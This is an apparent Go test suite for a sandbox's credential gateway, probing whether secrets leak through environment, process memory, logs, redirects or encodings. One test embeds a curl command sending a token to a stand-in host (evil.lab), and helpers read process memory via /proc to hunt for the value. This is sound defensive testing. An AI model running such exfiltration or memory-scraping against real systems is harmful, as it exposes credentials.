package adversary

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"unicode/utf16"

	"github.com/cove-sandbox/cove/test/adversary/outcome"
)

// Credentials describes those that the rows use. Their values are in the environment of the gateway's process.
const Credentials = `
credentials:
  - name: key
    source: env:COVE_ROWS_KEY
    variables: LAB_TOKEN
    shape: lab_{32}
    to:
      - {form: bearer, hosts: [key.lab, second.lab], ports: 443, methods: [GET, POST], paths: /bound/**}
  - name: basic
    source: env:COVE_ROWS_BASIC
    variables: LAB_PASSWORD
    to:
      - {form: basic, user: somebody, hosts: basic.lab, ports: 443, paths: /bound/**}
  - name: header
    source: env:COVE_ROWS_HEADER
    variables: LAB_HEADER
    to:
      - {form: header, header: X-Lab-Key, hosts: header.lab, ports: 443, paths: /bound/**}
  - name: query
    source: env:COVE_ROWS_QUERY
    variables: LAB_QUERY
    to:
      - {form: query, parameter: key, hosts: query.lab, ports: 443, paths: /bound/**}
  - name: twin
    source: env:COVE_ROWS_TWIN
    variables: LAB_TWIN
    to:
      - {form: bearer, hosts: key.lab, ports: 443, methods: [GET, POST], paths: /bound/**}
`

// secretRows are attempts to get hold of a credential, or to have it sent where
// it is not meant for (S1 to S13, but for S11, which is said in the docs).
func secretRows() []row {
	return []row{
		{id: "S1.inside", engine: true, invariant: "C1",
			what: "find the value in a sandbox: files, environment, arguments, memory", test: valueInside},
		{id: "S2.reflected", invariant: "C4", what: "have the origin send the value back, in any form", test: reflected},
		{id: "S3.hops", invariant: "C2",
			what: "see by TRACE what the gateway adds, or send on what is meant for it", test: hops},
		{id: "S4.copies", invariant: "C2", what: "send a copy, a part or a place of one's own for the value", test: copies},
		{id: "S5.elsewhere", invariant: "C2", what: "have a redirect or a second address take the value elsewhere",
			test: elsewhere},
		{id: "S6.spellings", invariant: "C2", what: "get the value onto another path or host by an odd spelling",
			test: oddSpellings},
		{id: "S7.conflicts", invariant: "C3",
			what: "use two credentials of one place, or one without TLS, without interception, against policy", test: conflicts},
		{id: "S8.fronted", invariant: "C2", what: "have the value sent to an address of the sandbox's choice", test: fronted},
		{id: "S9.rotated", invariant: "C2", what: "have an old value used, or a mix, while it is changed and when it is gone",
			test: rotated},
		{id: "S12.presets", invariant: "C2", what: "list keys, files and batches with a preset's credential", test: presets},
		{id: "S13.foreign", invariant: "C1", what: "use another sandbox's placeholder", test: foreignPlaceholder},
		{id: "S10.commands", invariant: "C1", what: "have a command of Cove's, its log or the API's answers show the value",
			test: commands},
		{id: "S10.written", invariant: "C1",
			what: "find a value in anything that was written: the log at its most talkative, decisions, answers, files",
			test: nothingWritten},
	}
}

// secret gives a credential a value that is nowhere else.
func (c *trial) secret(variable string) string {
	value := "key-" + token()
	c.Setenv(variable, value)
	c.suite.secrets = append(c.suite.secrets, value)
	return value
}

// spellings are what encoders make of a value; those that the gateway knows.
func spellings(value string) map[string]string {
	var percent, wide, entity strings.Builder
	for _, r := range value {
		fmt.Fprintf(&percent, "%%%02X", r)
		fmt.Fprintf(&entity, "%c", r)
	}
	for _, u := range utf16.Encode([]rune(value)) {
		wide.Write(binary.LittleEndian.AppendUint16(nil, u))
	}
	return map[string]string{
		"raw": value, "hex": hex.EncodeToString([]byte(value)), "HEX": strings.ToUpper(hex.EncodeToString([]byte(value))),
		"base64":           base64.StdEncoding.EncodeToString([]byte(value)),
		"base64 of a pair": base64.StdEncoding.EncodeToString([]byte("somebody:" + value)),
		"base64 for URLs":  base64.RawURLEncoding.EncodeToString([]byte("x" + value)),
		"percent":          percent.String(), "query": url.QueryEscape(value), "UTF-16": wide.String(),
	}
}

// inner is the part of a spelling that the value alone decides.
func inner(how, s string) string {
	if strings.HasPrefix(how, "base64") {
		return s[14 : len(s)-4]
	}
	return s
}

// betrays names the spelling of a value that some text has, reversed too where nothing is masked.
func betrays(text, value string) string {
	for how, s := range spellings(value) {
		if strings.Contains(text, inner(how, s)) {
			return how
		}
	}
	return ""
}

// withKey are sandboxes with the credential "key", under a policy for its host.
const withKey = "rules:\n  - hosts: [key.lab, allowed.lab, second.lab, also.lab]\n    ports: [80, 443, 8443]\n"

func valueInside(c *trial) {
	value := c.secret("COVE_ROWS_KEY")
	b := c.outward(withKey, "key")
	placeholder := b.route.Env()["LAB_TOKEN"]
	c.internet().Forget()
	for _, e := range bound("key.lab") {
		if a := b.get(e, "key.lab", "/bound/x"); !a.ok() {
			c.Errorf("not tested: %s: %s", e.name, a)
		}
	}
	for _, r := range c.internet().Requests() {
		if got := r.Header.Get("Authorization"); got != "Bearer "+value {
			c.Errorf("not tested: the origin got %q", got)
		}
	}
	if env := c.works(b.box, "env"); !slices.Contains(env.Lines, "LAB_TOKEN="+placeholder) ||
		betrays(strings.Join(env.Lines, "\n"), value) != "" {
		c.Errorf("HOLE or not tested: the environment is %v", env.Lines)
	}
	held := c.occupy(b.box)
	if limit, err := os.ReadFile(fmt.Sprintf("/proc/%d/limits", held.user.pid)); err != nil || !coresOff(string(limit)) {
		c.Errorf("core dumps are on: %v\n%s", err, limit)
	}
	found := 0
	for _, pid := range neighboursOf(held.user) {
		text := everythingOf(pid)
		if how := betrays(text, value); how != "" {
			c.Errorf("HOLE: the value is in process %d of the sandbox, %s", pid, how)
		}
		if strings.Contains(text, placeholder) {
			found++
		}
	}
	if found == 0 {
		c.Error("not tested: not even the placeholder is found in the sandbox's processes")
	}
	needles := make([]string, 0, 8)
	for how, s := range spellings(value) {
		if strings.EqualFold(how, "hex") { // in which needles are given
			continue
		}
		needles = append(needles, hex.EncodeToString([]byte(s)))
	}
	if r := b.run(c, spec("search "+strings.Join(needles, " "))).result; r.Outcome != outcome.Refused {
		c.Errorf("HOLE or not tested: the search ended with %s: %v", say(r), r.Lines)
	}
}

func coresOff(limits string) bool {
	for line := range strings.Lines(limits) {
		if strings.HasPrefix(line, "Max core file size") {
			f := strings.Fields(strings.TrimPrefix(line, "Max core file size"))
			return len(f[1]) == 1 && f[1] <= "1" // 1 is none, and none for a program that takes them either
		}
	}
	return false
}

// neighboursOf are the host's ids of all processes in a process's pid namespace.
func neighboursOf(p hostProcess) (pids []int) {
	dirs, _ := filepath.Glob("/proc/[0-9]*")
	for _, dir := range dirs {
		pid, err := strconv.Atoi(filepath.Base(dir))
		if err != nil {
			continue
		}
		if ns, _ := os.Readlink(dir + "/ns/pid"); ns == p.namespace("pid") {
			pids = append(pids, pid)
		}
	}
	return pids
}

// everythingOf is what the kernel shows of a process: environment, arguments and all of its memory.
func everythingOf(pid int) string {
	var all bytes.Buffer
	dir := fmt.Sprintf("/proc/%d/", pid)
	for _, name := range []string{"environ", "cmdline"} {
		data, _ := os.ReadFile(dir + name)
		all.Write(data)
	}
	maps, _ := os.ReadFile(dir + "maps")
	mem, err := os.Open(dir + "mem")
	if err != nil {
		return all.String()
	}
	defer mem.Close()
	pages, err := os.Open(dir + "pagemap")
	if err != nil {
		return all.String()
	}
	defer pages.Close()
	size := int64(os.Getpagesize())
	for line := range strings.Lines(string(maps)) {
		var from, to int64
		var mode string
		if n, _ := fmt.Sscanf(line, "%x-%x %s", &from, &to, &mode); n == 3 && strings.HasPrefix(mode, "rw") &&
			to-from < 128<<20 {
			// A page that is read comes to be, and counts against the sandbox's limit: those that are there will do.
			there := make([]byte, (to-from)/size*8)
			n, _ := pages.ReadAt(there, from/size*8)
			for i := int64(0); i < int64(n/8); i++ {
				if binary.NativeEndian.Uint64(there[i*8:])>>62 != 0 { // in memory, or swapped out
					io.Copy(&all, io.NewSectionReader(mem, from+i*size, size))
				}
			}
		}
	}
	return all.String()
}

// commands uses a credential as a user does, with a log at its most talkative, and reads back whatever can be read.
func commands(c *trial) {
	value := "key-" + token()
	c.suite.secrets = append(c.suite.secrets, value)
	said := 0
	cove := func(args ...string) string {
		cmd := c.suite.online.Command(c, args...)
		cmd.Env = append(cmd.Env, "LAB_KEY="+value, "COVE_LOG_LEVEL=debug", "COVE_LOG_FORMAT=json")
		out, _ := cmd.CombinedOutput()
		if how := betrays(string(out), value); how != "" {
			c.Errorf("HOLE: cove %s shows the value, %s", args[0], how)
		}
		said += len(out)
		return string(out)
	}
	c.internet().Forget()
	for _, flags := range [][]string{nil, {"--json"}} {
		cove(append([]string{"run", "bash", "--allow", "key.lab.test", "--credential", "lab", "-c",
			`curl -s -i --max-time 30 https://key.lab.test/mirror
curl -s -i --max-time 30 http://key.lab.test/mirror; curl -s -i --max-time 30 https://evil.lab/$LAB_TOKEN; curl -s -i -X TRACE --max-time 30 https://key.lab.test/mirror; env; echo "$LAB_TOKEN" >&2; false`}, flags...)...)
	}
	got := 0
	for _, r := range c.internet().Requests() {
		if r.Header.Get("Authorization") == "Bearer "+value {
			got++
		}
	}
	if got != 2 {
		c.Errorf("not tested: the value arrived %d times", got)
	}
	for _, args := range [][]string{{"audit", "--json"}, {"ps", "--all", "--json"}, {"network", "log", "--json"},
		{"config", "show"}, {"policy", "presets"}, {"ca", "list"},
		{"run", "bash", "--allow", "key.lab.test", "--credential", "lab", "--set", "gateway.credentials=" + os.DevNull,
			"-c", "true"}} {
		cove(args...)
	}
	if said < 5000 {
		c.Errorf("not tested: all commands have said %d bytes", said)
	}
}

// nothingWritten searches what has been written in the course of all rows. It is the last.
func nothingWritten(c *trial) {
	if len(c.suite.secrets) == 0 {
		c.lacking("no other row of S has run: there is no value to look for")
	}
	log := c.suite.online.Log()
	decisions, err := json.Marshal(c.suite.online.Decisions())
	if err != nil {
		c.Fatal("not tested: ", err)
	}
	if len(decisions) < 1000 {
		c.Errorf("not tested: there are %d bytes of decisions", len(decisions))
	}
	files := 0
	look := func(what, text string) {
		for _, value := range c.suite.secrets {
			if how := betrays(text, value); how != "" {
				c.Errorf("HOLE: a value is in %s, %s", what, how)
			}
		}
	}
	look("the log", log)
	look("a decision", string(decisions))
	for _, dir := range append(slices.Clone(c.suite.online.Dirs), c.suite.state) {
		eachFile(dir, func(path, content string) {
			files++
			look(path, content)
		})
	}
	if files == 0 {
		c.Error("not tested: there are no files")
	}
	c.remark("%d values, %d files, %d bytes of log, %d of decisions", len(c.suite.secrets), files, len(log),
		len(decisions))
}
